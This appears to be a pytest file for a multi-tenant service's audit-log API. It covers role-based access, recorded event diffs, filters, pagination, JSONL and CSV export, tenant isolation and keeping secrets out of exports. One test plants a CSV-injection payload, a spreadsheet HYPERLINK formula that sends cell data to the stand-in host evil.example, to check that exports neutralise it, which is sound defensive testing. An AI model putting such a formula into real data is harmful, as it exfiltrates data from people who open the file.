"""`/api/v1/audit` (superadmins) and `/api/v1/tenants/{tenant}/audit`: pages, filters, export."""

from __future__ import annotations

import base64
import csv
import io
import json
import uuid
from collections.abc import Iterator
from datetime import datetime

import pytest

from tenantry.db.session import Database
from tenantry.db.tables import AuditEvent
from tenantry.security import tokens
from tenantry.services import throttle
from tests.asserts import assert_problem
from tests.personas import PASSWORD

GLOBAL = "/api/v1/audit"
CSV_HEADER = [
    "id",
    "occurred_at",
    "tenant_id",
    "actor_type",
    "actor_id",
    "actor_label",
    "impersonator_id",
    "action",
    "target_type",
    "target_id",
    "before",
    "after",
    "ip",
    "user_agent",
    "request_id",
]


@pytest.fixture(autouse=True)
def _fresh_address_limiter() -> Iterator[None]:
    """The per-address login failure counter is process-wide; this file's failed logins start at 0."""
    throttle.set_limiter(None)
    yield
    throttle.set_limiter(None)


def _tenant_audit(ref: str = "acme") -> str:
    return f"/api/v1/tenants/{ref}/audit"


def _all(api, persona: str, path: str, limit: int = 500, **params) -> list[dict]:
    """Every event of a listing, following cursors."""
    out: list[dict] = []
    cursor = None
    for _ in range(100):
        q = {"limit": limit, **params} | ({"cursor": cursor} if cursor else {})
        r = api(persona).get(path, params=q)
        assert r.status_code == 200, r.text
        out += r.json()["items"]
        cursor = r.json()["next_cursor"]
        if cursor is None:
            return out
    raise AssertionError("pagination did not end")


def _actions(events: list[dict]) -> list[str]:
    return [e["action"] for e in events]


def _jsonl(r) -> list[dict]:
    assert r.status_code == 200, r.text
    return [json.loads(line) for line in r.text.splitlines() if line]


def _csv(r) -> list[dict]:
    assert r.status_code == 200, r.text
    reader = csv.DictReader(io.StringIO(r.text))
    assert reader.fieldnames == CSV_HEADER
    return list(reader)


def _add_events(db: Database, tenant_id: uuid.UUID, n: int, action: str = "bulk.test") -> None:
    with db.unit_of_work() as s:
        for i in range(n):
            s.add(
                AuditEvent(
                    tenant_id=tenant_id,
                    actor_type="system",
                    actor_label="tests",
                    action=action,
                    target_type="thing",
                    target_id=str(i),
                )
            )


# --- who may read --------------------------------------------------------------------------


def test_list_audit_superadmin_200_sees_every_tenant_and_global_event(api, personas):
    events = _all(api, "superadmin", GLOBAL)
    tenant_ids = {e["tenant_id"] for e in events}
    assert tenant_ids == {None, str(personas.acme.id), str(personas.globex.id)}
    assert _actions(events).count("tenant.create") == 2
    assert _actions(events).count("member.add") == 6
    assert _actions(events).count("auth.login") == len(personas.tokens)


@pytest.mark.parametrize(
    "persona", ["acme_admin", "acme_member", "acme_viewer", "acme_auditor", "globex_admin", "outsider"]
)
@pytest.mark.parametrize("fmt", ["json", "jsonl", "csv"])
def test_list_audit_non_superadmin_403(api, persona, fmt):
    r = api(persona).get(GLOBAL, params={"format": fmt})
    assert r.status_code == 403
    assert r.headers["content-type"].startswith("application/problem+json")
    assert r.json()["code"] == "permission_denied"


def test_list_audit_without_token_401(api):
    assert api(None).get(GLOBAL).status_code == 401
    assert api(None).get(_tenant_audit()).status_code == 401


@pytest.mark.parametrize("persona", ["superadmin", "acme_admin", "acme_auditor"])
def test_list_tenant_audit_admin_auditor_superadmin_200(api, personas, persona):
    for ref in ("acme", str(personas.acme.id)):
        r = api(persona).get(_tenant_audit(ref))
        assert r.status_code == 200
        assert "tenant.create" in _actions(r.json()["items"])


@pytest.mark.parametrize("persona", ["acme_member", "acme_viewer"])
@pytest.mark.parametrize("fmt", ["json", "jsonl", "csv"])
def test_list_tenant_audit_member_403(api, persona, fmt):
    r = api(persona).get(_tenant_audit(), params={"format": fmt})
    assert r.status_code == 403
    assert r.json()["code"] == "permission_denied"


@pytest.mark.parametrize("persona", ["globex_admin", "globex_member"])
@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_list_tenant_audit_of_other_tenant_404(api, personas, persona, fmt):
    for ref in ("acme", str(personas.acme.id)):
        r = api(persona).get(_tenant_audit(ref), params={"format": fmt})
        assert r.status_code == 404
        assert r.json()["code"] == "not_found"


def test_list_tenant_audit_user_without_tenant_403_no_tenant_like_unknown(api, personas):
    unknown = api("outsider").get(_tenant_audit("no-such-tenant"))
    for ref in ("acme", str(personas.acme.id)):
        r = api("outsider").get(_tenant_audit(ref), params={"format": "jsonl"})
        assert (r.status_code, r.json()) == (403, unknown.json())
        assert r.json()["code"] == "no_tenant"


# --- what is recorded ----------------------------------------------------------------------


def test_list_audit_records_tenant_lifecycle_with_diffs(api, personas):
    sa = personas.users["superadmin"]
    r = api("superadmin").post("/api/v1/tenants", json={"slug": "initech", "name": "Initech"})
    tid = r.json()["id"]
    api("superadmin").patch("/api/v1/tenants/initech", json={"name": "Initech Corp", "description": "TPS"})
    api("superadmin").patch("/api/v1/tenants/initech", json={"status": "suspended"})
    api("superadmin").patch("/api/v1/tenants/initech", json={"status": "active"})
    batch = api("superadmin").delete("/api/v1/tenants/initech").json()["deletion_batch_id"]
    assert api("superadmin").post("/api/v1/tenants/initech/restore").status_code == 200

    events = _all(api, "superadmin", GLOBAL, target_id=tid)
    assert _actions(events) == [
        "tenant.restore",
        "tenant.delete",
        "tenant.reactivate",
        "tenant.suspend",
        "tenant.update",
        "tenant.create",
    ]
    assert all(e["tenant_id"] == tid and e["target"] == {"type": "tenant", "id": tid} for e in events)
    assert all(e["actor"] == {"type": "user", "id": str(sa.id), "label": sa.email} for e in events)
    restore, delete, reactivate, suspend, update, create = events
    assert create["before"] is None
    assert create["after"]["slug"] == "initech"
    assert create["after"]["name"] == "Initech"
    assert update["before"] == {"name": "Initech", "description": ""}
    assert update["after"] == {"name": "Initech Corp", "description": "TPS"}
    assert (suspend["before"], suspend["after"]) == ({"status": "active"}, {"status": "suspended"})
    assert (reactivate["before"], reactivate["after"]) == ({"status": "suspended"}, {"status": "active"})
    assert delete["before"]["name"] == "Initech Corp"
    assert delete["after"]["deletion_batch_id"] == batch
    assert set(delete["after"]["counts"]) >= {"memberships", "grants", "resources"}
    assert restore["after"]["deletion_batch_id"] == batch


def test_list_audit_event_carries_request_id_ip_and_user_agent(api):
    headers = {"X-Request-Id": "req-audit-0001", "User-Agent": "audit-test/1.0"}
    r = api("superadmin").post(
        "/api/v1/tenants", json={"slug": "initech", "name": "Initech"}, headers=headers
    )
    [event] = _all(api, "superadmin", GLOBAL, action="tenant.create", target_id=r.json()["id"])
    assert event["after"]["slug"] == "initech"
    assert event["request_id"] == "req-audit-0001"
    assert event["user_agent"] == "audit-test/1.0"
    assert event["ip"]


def test_list_audit_failed_request_writes_no_event(api):
    """A refused or failed change is not audited as a change; the engine's refusal leaves only
    its own `authz.denied` trace."""
    before = _all(api, "superadmin", GLOBAL)
    api("acme_member").patch("/api/v1/tenants/acme", json={"name": "x"})
    api("superadmin").post("/api/v1/tenants", json={"slug": "acme", "name": "dup"})
    api("superadmin").post("/api/v1/tenants", json={"slug": "bad_slug", "name": "bad"})
    new = [e for e in _all(api, "superadmin", GLOBAL) if e not in before]
    assert [(e["action"], e["after"]["permission"]) for e in new] == [("authz.denied", "tenant.update")]


# --- filters -------------------------------------------------------------------------------


def test_list_audit_actor_id_filter_returns_only_that_actor(api, personas):
    admin = personas.users["acme_admin"]
    api("acme_admin").patch("/api/v1/tenants/acme", json={"name": "A1"})
    api("acme_admin").patch("/api/v1/tenants/acme", json={"name": "A2"})
    api("superadmin").patch("/api/v1/tenants/acme", json={"name": "A3"})
    events = _all(api, "superadmin", GLOBAL, actor_id=str(admin.id))
    assert sorted(_actions(events)) == ["auth.login", "tenant.update", "tenant.update"]
    assert {e["actor"]["id"] for e in events} == {str(admin.id)}
    in_tenant = _all(api, "acme_auditor", _tenant_audit(), actor_id=str(admin.id))
    assert _actions(in_tenant) == ["tenant.update", "tenant.update"]
    assert [e["after"] for e in in_tenant] == [{"name": "A2"}, {"name": "A1"}]


def test_list_audit_action_filter_exact_and_prefix(api):
    api("superadmin").patch("/api/v1/tenants/acme", json={"name": "Renamed"})
    assert _actions(_all(api, "superadmin", GLOBAL, action="member.add")) == ["member.add"] * 6
    assert _actions(_all(api, "acme_admin", _tenant_audit(), action="member.add")) == ["member.add"] * 4
    assert sorted(_actions(_all(api, "superadmin", GLOBAL, action="tenant.*"))) == [
        "tenant.create",
        "tenant.create",
        "tenant.update",
    ]
    assert _all(api, "superadmin", GLOBAL, action="tenant") == []
    assert _all(api, "superadmin", GLOBAL, action="tenant.creat") == []


@pytest.mark.parametrize("action", ["member_*", "%.*", "%*", "_uth.*"])
def test_list_audit_action_filter_wildcard_characters_are_literal(api, action):
    assert _all(api, "superadmin", GLOBAL, action=action) == []


def test_list_audit_target_filters(api, personas):
    users = _all(api, "superadmin", GLOBAL, target_type="user")
    assert sorted(set(_actions(users))) == ["member.add", "user.create"]
    assert len(users) == len(personas.users) + 6
    viewer = str(personas.users["acme_viewer"].id)
    one_user = _all(api, "superadmin", GLOBAL, target_type="user", target_id=viewer)
    assert sorted(_actions(one_user)) == ["member.add", "user.create"]
    acme = _all(api, "superadmin", GLOBAL, target_id=str(personas.acme.id))
    assert _actions(acme) == ["tenant.create"]
    assert _all(api, "superadmin", GLOBAL, target_type="tenant", target_id=viewer) == []


def test_list_audit_since_until_split_at_an_event(api):
    api("superadmin").post("/api/v1/tenants", json={"slug": "initech", "name": "Initech"})
    everything = _all(api, "superadmin", GLOBAL)
    [pivot] = [e for e in everything if e["action"] == "tenant.create" and e["after"]["slug"] == "initech"]
    at = datetime.fromisoformat(pivot["occurred_at"])
    stamp = {e["id"]: datetime.fromisoformat(e["occurred_at"]) for e in everything}

    since = _all(api, "superadmin", GLOBAL, since=at.isoformat())
    until = _all(api, "superadmin", GLOBAL, until=at.isoformat())
    assert {e["id"] for e in since} == {i for i, t in stamp.items() if t >= at}
    assert {e["id"] for e in until} == {i for i, t in stamp.items() if t < at}
    assert pivot["id"] in {e["id"] for e in since}
    assert len(since) + len(until) == len(everything)
    assert len(until) > 0
    window = _all(api, "superadmin", GLOBAL, since=at.isoformat(), until=at.isoformat())
    assert window == []


def test_list_audit_since_without_offset_means_utc(api):
    everything = _all(api, "superadmin", GLOBAL)
    assert len(_all(api, "superadmin", GLOBAL, since="2000-01-01T00:00:00")) == len(everything)
    assert _all(api, "superadmin", GLOBAL, since="2999-01-01T00:00:00") == []
    assert _all(api, "superadmin", GLOBAL, until="2000-01-01") == []
    assert _all(api, "superadmin", GLOBAL, since="2999-01-01T00:00:00+02:00") == []


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"since": "yesterday"}, "since"),
        ({"until": "2024-13-01T00:00:00Z"}, "until"),
        ({"actor_id": "not-a-uuid"}, "actor_id"),
        ({"format": "xml"}, "format"),
        ({"limit": 0}, "limit"),
        ({"limit": 501}, "limit"),
    ],
)
def test_list_audit_bad_query_422_validation_error(api, params, field):
    for persona, path in (("superadmin", GLOBAL), ("acme_admin", _tenant_audit())):
        r = api(persona).get(path, params=params)
        assert r.status_code == 422
        assert r.json()["code"] == "validation_error"
        assert any(e["field"].endswith(field) for e in r.json()["errors"])


# --- pagination ----------------------------------------------------------------------------


@pytest.mark.parametrize(("persona", "path"), [("superadmin", GLOBAL), ("acme_auditor", _tenant_audit())])
def test_list_audit_cursor_pagination_each_event_once_newest_first(api, persona, path):
    api("superadmin").patch("/api/v1/tenants/acme", json={"name": "One"})
    api("superadmin").patch("/api/v1/tenants/acme", json={"name": "Two"})
    full = api(persona).get(path, params={"limit": 500}).json()
    assert full["next_cursor"] is None
    paged = _all(api, persona, path, limit=3)
    assert len(full["items"]) > 6
    assert [e["id"] for e in paged] == [e["id"] for e in full["items"]]
    assert len({e["id"] for e in paged}) == len(paged)
    ids = [uuid.UUID(e["id"]) for e in paged]
    assert ids == sorted(ids, reverse=True)
    assert paged[0]["after"] == {"name": "Two"}


def test_list_audit_last_page_has_no_cursor(api):
    n = len(_all(api, "superadmin", GLOBAL))
    r = api("superadmin").get(GLOBAL, params={"limit": n})
    assert len(r.json()["items"]) == n
    assert r.json()["next_cursor"] is None
    r = api("superadmin").get(GLOBAL, params={"limit": n - 1})
    assert r.json()["next_cursor"] is not None


@pytest.mark.parametrize(
    "cursor",
    [
        "!!!!",
        "not-a-cursor",
        base64.urlsafe_b64encode(b"acme").decode(),
        base64.urlsafe_b64encode(b"\xff").decode(),
    ],
)
def test_list_audit_bad_cursor_422_invalid_cursor(api, cursor):
    for persona, path in (("superadmin", GLOBAL), ("acme_admin", _tenant_audit())):
        r = api(persona).get(path, params={"cursor": cursor})
        assert r.status_code == 422
        assert r.json()["code"] == "invalid_cursor"


# --- export --------------------------------------------------------------------------------


def test_export_audit_jsonl_streams_every_matching_event(api):
    api("superadmin").patch("/api/v1/tenants/acme", json={"name": "Exported"})
    listed = _all(api, "superadmin", GLOBAL)
    r = api("superadmin").get(GLOBAL, params={"format": "jsonl"})
    assert r.headers["content-type"].startswith("application/x-ndjson")
    assert "attachment" in r.headers["content-disposition"]
    rows = _jsonl(r)
    assert [e["id"] for e in rows] == [e["id"] for e in reversed(listed)]
    assert rows == list(reversed(listed))


def test_export_audit_csv_streams_every_matching_event(api):
    api("superadmin").patch("/api/v1/tenants/acme", json={"description": 'quote " and, comma\nnewline'})
    listed = _all(api, "superadmin", GLOBAL)
    r = api("superadmin").get(GLOBAL, params={"format": "csv"})
    assert r.headers["content-type"].startswith("text/csv")
    rows = _csv(r)
    assert [row["id"] for row in rows] == [e["id"] for e in reversed(listed)]
    [update] = [row for row in rows if row["action"] == "tenant.update"]
    assert json.loads(update["after"]) == {"description": 'quote " and, comma\nnewline'}
    assert json.loads(update["before"]) == {"description": ""}
    assert update["tenant_id"] and update["actor_id"] and update["target_type"] == "tenant"


def test_export_audit_csv_neutralises_formula_cells(api, clean_db, personas):
    """A spreadsheet must show what was logged, never run it (OWASP CSV injection)."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    api("acme_admin").patch("/api/v1/tenants/acme", json={"name": "Acme"}, headers={"User-Agent": formula})
    with clean_db.unit_of_work() as s:
        s.add(
            AuditEvent(
                tenant_id=personas.acme.id,
                actor_type="system",
                actor_label="@SUM(1+1)",
                action="csv.probe",
                target_type="+thing",
                target_id="-2+3",
                user_agent="\t=1+1",
                request_id="\r=1+1",
            )
        )
    rows = _csv(api("acme_admin").get(_tenant_audit(), params={"format": "csv"}))
    [update] = [row for row in rows if row["action"] == "tenant.update"]
    assert update["user_agent"] == "'" + formula
    [probe] = [row for row in rows if row["action"] == "csv.probe"]
    assert probe["actor_label"] == "'@SUM(1+1)"
    assert probe["target_type"] == "'+thing"
    assert probe["target_id"] == "'-2+3"
    assert probe["user_agent"] == "'\t=1+1"
    assert probe["request_id"] == "'\r=1+1"
    # Only the CSV export is changed: the JSON forms keep the value as it was logged.
    [event] = _all(api, "acme_admin", _tenant_audit(), action="tenant.update")
    assert event["user_agent"] == formula


def test_export_audit_respects_filters(api):
    api("superadmin").patch("/api/v1/tenants/acme", json={"name": "Filtered"})
    rows = _jsonl(api("superadmin").get(GLOBAL, params={"format": "jsonl", "action": "tenant.*"}))
    assert sorted(_actions(rows)) == ["tenant.create", "tenant.create", "tenant.update"]
    rows = _csv(api("superadmin").get(GLOBAL, params={"format": "csv", "action": "member.add"}))
    assert [row["action"] for row in rows] == ["member.add"] * 6


def test_export_audit_beyond_one_chunk_returns_each_row_once(api, clean_db, personas):
    _add_events(clean_db, personas.acme.id, 1234)
    rows = _jsonl(api("acme_admin").get(_tenant_audit(), params={"format": "jsonl", "action": "bulk.test"}))
    assert len(rows) == 1234
    assert len({e["id"] for e in rows}) == 1234
    assert sorted(int(e["target"]["id"]) for e in rows) == list(range(1234))
    rows = _csv(api("superadmin").get(GLOBAL, params={"format": "csv", "action": "bulk.test"}))
    assert len(rows) == 1234


# --- isolation and secrets -----------------------------------------------------------------


def test_tenant_audit_never_includes_another_tenants_events(api, clean_db, personas):
    api("globex_admin").patch("/api/v1/tenants/globex", json={"name": "Globex Secret Project"})
    api("superadmin").patch("/api/v1/tenants/globex", json={"status": "suspended"})
    _add_events(clean_db, personas.globex.id, 3, action="globex.only")
    acme = str(personas.acme.id)
    paged = _all(api, "acme_auditor", _tenant_audit())
    jsonl = _jsonl(api("acme_admin").get(_tenant_audit(), params={"format": "jsonl"}))
    rows = _csv(api("acme_admin").get(_tenant_audit(), params={"format": "csv"}))
    assert paged
    assert (
        {e["tenant_id"] for e in paged} == {e["tenant_id"] for e in jsonl} == {r["tenant_id"] for r in rows}
    )
    assert {e["tenant_id"] for e in paged} == {acme}
    assert len(paged) == len(jsonl) == len(rows)
    for text in (json.dumps(paged), json.dumps(jsonl), json.dumps(rows)):
        assert "Globex" not in text
        assert str(personas.globex.id) not in text
    assert _all(api, "acme_admin", _tenant_audit(), target_id=str(personas.globex.id)) == []
    assert _all(api, "acme_admin", _tenant_audit(), action="globex.only") == []
    globex = _all(api, "superadmin", _tenant_audit("globex"))
    assert {e["tenant_id"] for e in globex} == {str(personas.globex.id)}


def test_export_audit_never_contains_passwords_or_tokens(api, client, personas):
    wrong = "wrong-passphrase-that-must-not-leak-7781"
    r = client.post("/api/v1/auth/login", json={"email": "acme.admin@example.com", "password": PASSWORD})
    token = r.json()["token"]
    assert (
        client.post(
            "/api/v1/auth/login", json={"email": "acme.admin@example.com", "password": wrong}
        ).status_code
        == 401
    )
    assert client.post("/api/v1/auth/logout", headers={"Authorization": f"Bearer {token}"}).status_code == 204
    exported = [
        api("superadmin").get(GLOBAL, params={"format": "jsonl"}).text,
        api("superadmin").get(GLOBAL, params={"format": "csv"}).text,
        api("superadmin").get(GLOBAL, params={"limit": 500}).text,
    ]
    assert '"auth.login"' in exported[0]
    assert '"auth.login_failed"' in exported[0]
    assert '"auth.logout"' in exported[0]
    secrets = [PASSWORD, wrong, token, tokens.digest(token), token.removeprefix("tnt_ses_")]
    secrets += list(personas.tokens.values()) + [tokens.digest(t) for t in personas.tokens.values()]
    for text in exported:
        for secret in secrets:
            assert secret not in text


# --- /api/v1/audit/verify --------------------------------------------------------------------------


def test_verify_answers_superadmins_with_the_chain_report(api, personas) -> None:
    r = api("superadmin").get("/api/v1/audit/verify")
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["ok"] is True and body["first_broken"] is None
    assert body["streams_checked"] >= 3 and body["events_checked"] > 0


def test_verify_is_refused_to_tenant_admins(api, personas) -> None:
    assert_problem(api("acme_admin").get("/api/v1/audit/verify"), 403, "permission_denied")
